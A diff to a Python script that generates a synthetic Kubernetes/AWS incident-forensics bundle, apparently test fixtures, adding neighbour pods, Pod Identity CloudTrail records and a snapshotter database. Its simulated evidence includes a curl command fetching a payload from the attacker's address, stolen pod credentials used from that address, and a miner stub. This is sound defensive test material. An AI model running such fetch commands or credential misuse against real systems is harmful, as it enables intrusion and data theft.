@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
 """Writes the EKS incident scenario bundle (bundle/ next to this script); see README.md for the story and each
 file's provenance. Deterministic: same output on every run. Run: python3 make_eks_scenario.py"""
-import calendar, json, os, shutil, time
+import calendar, json, os, shutil, subprocess, time
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 OUT = os.path.join(HERE, "bundle")
@@ -35,6 +35,19 @@ SESSION_NAME = "botocore-session-1795424040"
 SESSION = "arn:aws:sts::111111111111:assumed-role/checkout-irsa/" + SESSION_NAME
 KEY = "ASIAEKSCHECKOUT00001"
 STAGE_POD, STAGE_UID = "report-gen-28472910-x8k2m", "3c4d5e6f-0a1b-4c2d-8e3f-4a5b6c7d8e9f"
+# neighbours on the same node: a noisy one whose evidence must stay out of the incident, and one that connects to the
+# attacker's address (it comes in through that address); the latter runs with EKS Pod Identity credentials
+INV, INV_UID, INV_IP = "inventory-6f7d8c9b4-n3p5r", "9a1b2c3d-4e5f-4a6b-8c7d-0e1f2a3b4c5d", "10.0.3.31"
+INV_SANDBOX, INV_CTR, INV_DIGEST = "5a3d" + "2a" * 30, "1b7e" + "3c" * 30, "sha256:" + "1b7e" * 16
+INV_IMAGE = "111111111111.dkr.ecr.us-east-1.amazonaws.com/inventory"
+REC, REC_UID, REC_IP = "recommender-5d4c3b2a1-w9x8y", "7c6b5a49-3827-4615-9a0b-1c2d3e4f5a6b", "10.0.3.44"
+REC_SANDBOX, REC_CTR, REC_DIGEST = "5a4d" + "3b" * 30, "4ec0" + "5d" * 30, "sha256:" + "4ec0" * 16
+REC_IMAGE = "111111111111.dkr.ecr.us-east-1.amazonaws.com/recommender"
+REC_ROLE = "arn:aws:iam::111111111111:role/recommender-podid"
+REC_SESSION_NAME = "eks-prod-eks-recommende-2f9e1c3a-5b7d-4e8f-9a0b-1c2d3e4f5a6b"
+REC_SESSION = "arn:aws:sts::111111111111:assumed-role/recommender-podid/" + REC_SESSION_NAME
+REC_KEY = "ASIAEKSRECOMMENDER01"
+NODE_ROLE = "arn:aws:iam::111111111111:role/prod-eks-node-role"
 
 def write(rel, text):
     path = os.path.join(OUT, rel)
@@ -68,6 +81,7 @@ def pod_obj(ns, name, uid, sa, node, ip, cid, image, digest, cname, state, phase
     if node: status["hostIP"] = node_ip(node)
     if node and name == POD: status["startTime"] = DAY + "T09:00:01Z"  # when the kubelet acknowledged the pod
     if node and name == CART: status["startTime"] = DAY + "T10:35:01Z"
+    if node and name in (INV, REC): status["startTime"] = DAY + "T09:00:35Z"
     if ip: status["podIP"] = ip; status["podIPs"] = [{"ip": ip}]
     if cid:
         status["containerStatuses"] = [{"name": cname, "containerID": "containerd://" + cid, "image": image + ":v2.3.1",
@@ -101,6 +115,12 @@ def prod_audit():
                     ua="kubelet/v1.30.4-eks",
                     response=pod_obj("web", POD, POD_UID, SA, NODE, POD_IP, CTR, IMAGE, DIGEST, "checkout",
                                      {"running": {"startedAt": DAY + "T09:00:03Z"}})))
+    for name, uid, sa, ip, cid, image, digest, cname in ((INV, INV_UID, "inventory", INV_IP, INV_CTR, INV_IMAGE, INV_DIGEST, "inventory"),
+                                                         (REC, REC_UID, "recommender", REC_IP, REC_CTR, REC_IMAGE, REC_DIGEST, "recommender")):
+        ev.append(audit("09:00:40", "patch", "/api/v1/namespaces/web/pods/%s/status" % name, *KUBELET, node_ip(NODE), ref(name, "status"),
+                        ua="kubelet/v1.30.4-eks",
+                        response=pod_obj("web", name, uid, sa, NODE, ip, cid, image, digest, cname,
+                                         {"running": {"startedAt": DAY + "T09:00:38Z"}})))
     # an exec into the pod from the attacker's address with a CI identity's kubeconfig
     ev.append(audit("10:12:00", "create", "/api/v1/namespaces/web/pods/%s/exec?command=sh&container=checkout&stdin=true&stdout=true&tty=true" % POD,
                     "ci-deployer", ["deployers", "system:authenticated"], ATTACKER, ref(POD, "exec"), code=101))
@@ -175,6 +195,11 @@ def containerd_log():
             add(hms, us, "debug", "ExecSync for \"%s\" with command [/bin/grpc_health_probe -addr=:8080] and timeout 1 (s)" % cid, "")
             add(hms, us + 20000, "debug", "ExecSync for \"%s\" returns with exit code 0" % cid, "")
     sandbox("09:00:01", POD, POD_UID, SANDBOX, POD_IP)
+    for t, name, uid, sid, ip, cid, cname in (("09:00:35", INV, INV_UID, INV_SANDBOX, INV_IP, INV_CTR, "inventory"),
+                                              ("09:00:36", REC, REC_UID, REC_SANDBOX, REC_IP, REC_CTR, "recommender")):
+        sandbox(t, name, uid, sid, ip)
+        add(t, 950000, "info", 'CreateContainer within sandbox "%s" for &ContainerMetadata{Name:%s,Attempt:0,} returns container id "%s"' % (sid, cname, cid))
+        add(t, 970000, "info", 'StartContainer for "%s" returns successfully' % cid)
     noise(epoch("09:00:02"), 20, 0.04, None)  # 20 other pods' probes in the next second: > 4 KiB of log
     add("09:00:02", 100000, "info", 'PullImage "%s:v2.3.1"' % IMAGE)
     add("09:00:02", 900000, "info", 'PullImage "%s:v2.3.1" returns image reference "sha256:%s"' % (IMAGE, "1d" * 32))
@@ -183,6 +208,7 @@ def containerd_log():
     add("09:00:03", 300000, "info", 'StartContainer for "%s"' % CTR)
     add("09:00:03", 600000, "info", 'StartContainer for "%s" returns successfully' % CTR)
     noise(epoch("09:00:10"), 40, 20, CTR)  # its own probes
+    noise(epoch("10:10:05"), 12, 30, INV_CTR)  # the noisy neighbour's probes during the incident
     # the exploit's children exit (an exec's exit is not the container's end)
     add("10:12:40", 0, "info", 'TaskExit event container_id:"%s" id:"%s" pid:31990 exit_status:0 exited_at:{seconds:%d nanos:0}'
         % (CTR, "7e57" + "ab" * 30, int(epoch("10:12:40"))))
@@ -203,6 +229,7 @@ def containerd_log():
     add("10:35:03", 200000, "info", 'CreateContainer within sandbox "%s" for &ContainerMetadata{Name:cart,Attempt:0,} returns container id "%s"' % (SANDBOX2, CTR2))
     add("10:35:03", 300000, "info", 'StartContainer for "%s"' % CTR2)
     add("10:35:04", 0, "info", 'StartContainer for "%s" returns successfully' % CTR2)
+    L.sort(key=lambda line: line.split('time="', 1)[1][:30])  # journalctl's order: by time
     return "".join(L)
 
 # ------------------------------------------------------------------------------------------------------- CRI logs
@@ -214,6 +241,13 @@ def cri_checkout():
         ts("10:09:55", 312000500) + " stderr F cannot convert from java.lang.ProcessImpl to java.lang.String\n",
         ts("10:30:00", 400000000) + " stdout F Commencing graceful shutdown. Waiting for active requests to complete\n",
     ])
+
+def cri_inventory():
+    return "".join(ts(hms, 0) + " stdout F GET /api/stock/%d 200 3ms\n" % i
+                   for i, hms in enumerate(["10:10:00", "10:11:00", "10:14:00", "10:17:30", "10:21:00"]))
+
+def cri_recommender():
+    return ts("10:20:00", 0) + " stdout F fetching model update from http://%s/m.bin\n" % ATTACKER
 
 def cri_cart():
     return ts("10:35:05", 0) + " stdout F cart service listening on :8080\n" + ts("10:40:00", 0) + " stdout F GET /api/cart/42 200\n"
@@ -240,6 +274,13 @@ def tetragon():
     kw = tproc("aXAtMTAtMC0zLTQxOjMxOTk0", 31994, "/tmp/.kworker", "", ts("10:09:57", 0), True, sh["exec_id"])
     py = tproc("aXAtMTAtMC0zLTQxOjUxMDA=", 5100, "/usr/local/bin/python3", "/srv/cart/app.py", ts("10:36:00", 0), True, None,
                ctr=CTR2, pod=CART, image="111111111111.dkr.ecr.us-east-1.amazonaws.com/cart", digest=DIGEST2, cname="cart")
+    inv = tproc("aXAtMTAtMC0zLTQxOjYyMDA=", 6200, "/usr/local/bin/python3", "/srv/inventory/sync.py --full", ts("10:11:00", 0), True, None,
+                ctr=INV_CTR, pod=INV, image=INV_IMAGE, digest=INV_DIGEST, cname="inventory")
+    rec = tproc("aXAtMTAtMC0zLTQxOjcxMDA=", 7100, "/usr/bin/curl", "-s http://%s/m.bin -o /tmp/m.bin" % ATTACKER, ts("10:20:00", 100000000), True, None,
+                ctr=REC_CTR, pod=REC, image=REC_IMAGE, digest=REC_DIGEST, cname="recommender")
+    # a responder on the node itself (outside any container): node-level evidence
+    host = {"exec_id": "aXAtMTAtMC0zLTQxOjkwMDE=", "pid": 9001, "uid": 0, "cwd": "/root", "binary": "/usr/local/bin/crictl",
+            "arguments": "ps -a", "flags": "execve", "start_time": ts("10:25:00", 0), "auid": 1000}
     strip = lambda p: {k: v for k, v in p.items() if k != "pod"}
     ev = [
         {"process_exec": {"process": sh, "parent": java}, "node_name": NODE, "time": ts("10:09:55", 400100000), "cluster_name": "prod-eks"},
@@ -263,7 +304,21 @@ def tetragon():
                             "action": "KPROBE_ACTION_POST", "policy_name": "connect-egress"},
          "node_name": NODE, "time": ts("10:16:30", 0), "cluster_name": "prod-eks"},
         {"process_exec": {"process": py}, "node_name": NODE, "time": ts("10:36:00", 100000), "cluster_name": "prod-eks"},
+        {"process_exec": {"process": inv}, "node_name": NODE, "time": ts("10:11:00", 100000), "cluster_name": "prod-eks"},
+        {"process_kprobe": {"process": inv, "function_name": "tcp_connect",
+                            "args": [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
+                                                   "saddr": INV_IP, "daddr": "10.0.9.9", "sport": 41000, "dport": 5432}}],
+                            "action": "KPROBE_ACTION_POST", "policy_name": "connect-egress"},
+         "node_name": NODE, "time": ts("10:11:01", 0), "cluster_name": "prod-eks"},
+        {"process_exec": {"process": rec}, "node_name": NODE, "time": ts("10:20:00", 200000), "cluster_name": "prod-eks"},
+        {"process_kprobe": {"process": rec, "function_name": "tcp_connect",
+                            "args": [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
+                                                   "saddr": REC_IP, "daddr": ATTACKER, "sport": 52000, "dport": 80}}],
+                            "action": "KPROBE_ACTION_POST", "policy_name": "connect-egress"},
+         "node_name": NODE, "time": ts("10:20:00", 300000000), "cluster_name": "prod-eks"},
+        {"process_exec": {"process": host}, "node_name": NODE, "time": ts("10:25:00", 100000), "cluster_name": "prod-eks"},
     ]
+    ev.sort(key=lambda e: e["time"])
     return jl(ev)
 
 # ---------------------------------------------------------------------------------------------------------- Falco
@@ -307,7 +362,37 @@ def cloudtrail():
         return r
     web_identity = {"type": "WebIdentityUser", "principalId": oidc + ":sts.amazonaws.com:system:serviceaccount:web:" + SA,
                     "userName": "system:serviceaccount:web:" + SA, "identityProvider": oidc}
+    node_identity = {"type": "AssumedRole", "principalId": "AROAEKSNODEROLE0001:" + INSTANCE,
+                     "arn": "arn:aws:sts::111111111111:assumed-role/prod-eks-node-role/" + INSTANCE, "accountId": ACCT,
+                     "accessKeyId": "ASIAEKSNODE000000001",
+                     "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAEKSNODEROLE0001", "arn": NODE_ROLE,
+                                                          "accountId": ACCT, "userName": "prod-eks-node-role"},
+                                        "attributes": {"creationDate": DAY + "T08:50:00Z", "mfaAuthenticated": "false"},
+                                        "ec2RoleDelivery": "2.0"}}
+    tags = [("eks-cluster-arn", "arn:aws:eks:us-east-1:111111111111:cluster/prod-eks"), ("eks-cluster-name", "prod-eks"),
+            ("kubernetes-namespace", "web"), ("kubernetes-service-account", "recommender"),
+            ("kubernetes-pod-name", REC), ("kubernetes-pod-uid", REC_UID)]
+    rec_identity = {"type": "AssumedRole", "principalId": "AROAEKSRECOMMENDER1:" + REC_SESSION_NAME, "arn": REC_SESSION,
+                    "accountId": ACCT, "accessKeyId": REC_KEY,
+                    "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAEKSRECOMMENDER1", "arn": REC_ROLE,
+                                                         "accountId": ACCT, "userName": "recommender-podid"},
+                                       "attributes": {"creationDate": DAY + "T09:01:00Z", "mfaAuthenticated": "false"}}}
     records = [
+        # EKS Pod Identity: the node's agent asks eks-auth (with the node's role; its response is not logged), EKS
+        # assumes the associated role with the pod in its session tags
+        rec("09:01:00", "eks-auth.amazonaws.com", "AssumeRoleForPodIdentity", node_ip(NODE), "aws-sdk-go-v2/1.30.3 api/eksauth#1.7.0",
+            {"clusterName": "prod-eks", "token": "HIDDEN_DUE_TO_SECURITY_REASONS"}, None, 5, identity=node_identity),
+        rec("09:01:00", "sts.amazonaws.com", "AssumeRole", "pods.eks.amazonaws.com", "pods.eks.amazonaws.com",
+            {"roleArn": REC_ROLE, "roleSessionName": REC_SESSION_NAME, "durationSeconds": 21600,
+             "tags": [{"key": k, "value": v} for k, v in tags], "transitiveTagKeys": [k for k, _ in tags]},
+            {"credentials": {"accessKeyId": REC_KEY, "sessionToken": "redacted", "expiration": "Nov 22, 2026, 3:01:00 PM"},
+             "assumedRoleUser": {"assumedRoleId": "AROAEKSRECOMMENDER1:" + REC_SESSION_NAME, "arn": REC_SESSION},
+             "packedPolicySize": 56}, 6, identity={"type": "AWSService", "invokedBy": "pods.eks.amazonaws.com"},
+            extra={"sharedEventID": "5ed0c0de-0000-4000-8000-0000000000e5",
+                   "resources": [{"accountId": ACCT, "type": "AWS::IAM::Role", "ARN": REC_ROLE}]}),
+        # the recommender's credentials, taken from its pod, used from the attacker's address
+        rec("10:22:00", "s3.amazonaws.com", "ListBuckets", ATTACKER, "aws-cli/2.15.0 Python/3.11",
+            {"Host": "s3.amazonaws.com"}, None, 7, identity=rec_identity),
         rec("10:14:00", "sts.amazonaws.com", "AssumeRoleWithWebIdentity", POD_IP, "aws-sdk-java/2.25.0 Linux/5.10 OpenJDK_64-Bit_Server_VM/17",
             {"roleArn": ROLE, "roleSessionName": SESSION_NAME, "durationSeconds": 3600},
             {"credentials": {"accessKeyId": KEY, "sessionToken": "redacted", "expiration": "Nov 22, 2026, 11:14:00 AM"},
@@ -324,7 +409,25 @@ def cloudtrail():
             {"bucketName": "acme-checkout-exports", "key": "orders-2026-11.csv", "Host": "acme-checkout-exports.s3.amazonaws.com"},
             None, 4, category="Data"),
     ]
+    records.sort(key=lambda r: r["eventTime"])
     return json.dumps({"Records": records}, separators=(",", ":")) + "\n"
+
+def snapshotter_db(path):
+    """The overlayfs snapshotter's bbolt metadata.db, as containerd writes it (written by the real bbolt library with
+    ingest's fixtures/containerd-snapshotter/make_metadata_db.go; needs Go and Debian's golang-github-coreos-bbolt-dev):
+    the checkout image's layers 55, 56 (committed), the checkout container's writable layer 57 (active, key = its
+    container id), the pause image layer 3 and the pods' sandboxes, the neighbours' and the next holder's containers."""
+    layer = lambda n: "k8s.io/%d/sha256:%s" % (n, ("%02x" % n) * 32)
+    specs = [layer(3) + "|3|3", layer(55) + "|55|3", layer(56) + "|56|3|" + layer(55),
+             "k8s.io/57/%s|57|2|%s" % (CTR, layer(56)), "k8s.io/58/%s|58|2|%s" % (SANDBOX, layer(3)),
+             "k8s.io/60/%s|60|2|%s" % (INV_SANDBOX, layer(3)), "k8s.io/61/%s|61|2|%s" % (INV_CTR, layer(55)),
+             "k8s.io/62/%s|62|2|%s" % (REC_SANDBOX, layer(3)), "k8s.io/63/%s|63|2|%s" % (REC_CTR, layer(55)),
+             "k8s.io/64/%s|64|2|%s" % (SANDBOX2, layer(3)), "k8s.io/65/%s|65|2|%s" % (CTR2, layer(55))]
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    tool = os.path.join(HERE, "../../../../../../ingest/src/test/resources/fixtures/containerd-snapshotter/make_metadata_db.go")
+    env = dict(os.environ, GO111MODULE="off", GOPATH="/usr/share/gocode", GOCACHE="/tmp/strata-gocache")
+    subprocess.run(["go", "run", os.path.normpath(tool), path] + specs, check=True, env=env)
+    os.chmod(path, 0o644)
 
 def main():
     if os.path.isdir(OUT):
@@ -342,10 +445,14 @@ def main():
     write(nd + "eks_" + INSTANCE + "_2026-11-22_1100-UTC_0.7.6/containerd/containerd-log.txt", containerd_log())
     write(nd + "var/log/pods/web_%s_%s/checkout/0.log" % (POD, POD_UID), cri_checkout())
     write(nd + "var/log/pods/web_%s_%s/cart/0.log" % (CART, CART_UID), cri_cart())
+    write(nd + "var/log/pods/web_%s_%s/inventory/0.log" % (INV, INV_UID), cri_inventory())
+    write(nd + "var/log/pods/web_%s_%s/recommender/0.log" % (REC, REC_UID), cri_recommender())
     write(nd + "var/run/cilium/tetragon/tetragon.log", tetragon())
     write(nd + "var/log/falco/events.log", falco())
     snap = nd + "var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/"
-    write(snap + "metadata.db", "")  # the snapshotter's bolt database (empty here: marks the snapshotter)
+    snapshotter_db(os.path.join(OUT, snap + "metadata.db"))
+    write(snap + "snapshots/55/fs/bin/sh", "\x7fELF-busybox-stub\n")  # the checkout image's layers (committed)
+    write(snap + "snapshots/56/fs/app/checkout.jar", "PK-checkout-v2.3.1\n")
     write(snap + "snapshots/57/fs/tmp/.kworker", "\x7fELF-dropped-miner-stub\n")
     os.chmod(os.path.join(OUT, snap + "snapshots/57/fs/tmp/.kworker"), 0o755)
     write(snap + "snapshots/57/fs/app/checkout.lock", "4123\n")
@@ -356,6 +463,7 @@ def main():
               (POD_IP, ATTACKER, 49152, 80, 20, 90112, "10:09:55"),    # the download
               (POD_IP, ATTACKER, 49160, 443, 9000, 48234496, "10:16:30"),  # the upload
               (POD_IP, "10.0.9.9", 50000, 5432, 30, 6100, "10:40:00"),  # the next holder, cart, to its database
+              (INV_IP, "10.0.9.9", 41000, 5432, 40, 8200, "10:11:00"),  # the noisy neighbour to its database
           ]))
     write(base % ACCT_STAGE + "%s_vpcflowlogs_us-east-1_fl-0f9e8d7c6b5a4f302_20261122T1045Z_e5f6a7b8.log" % ACCT_STAGE,
           flows(ACCT_STAGE, ENI_STAGE, VPC_STAGE, INSTANCE_STAGE, [
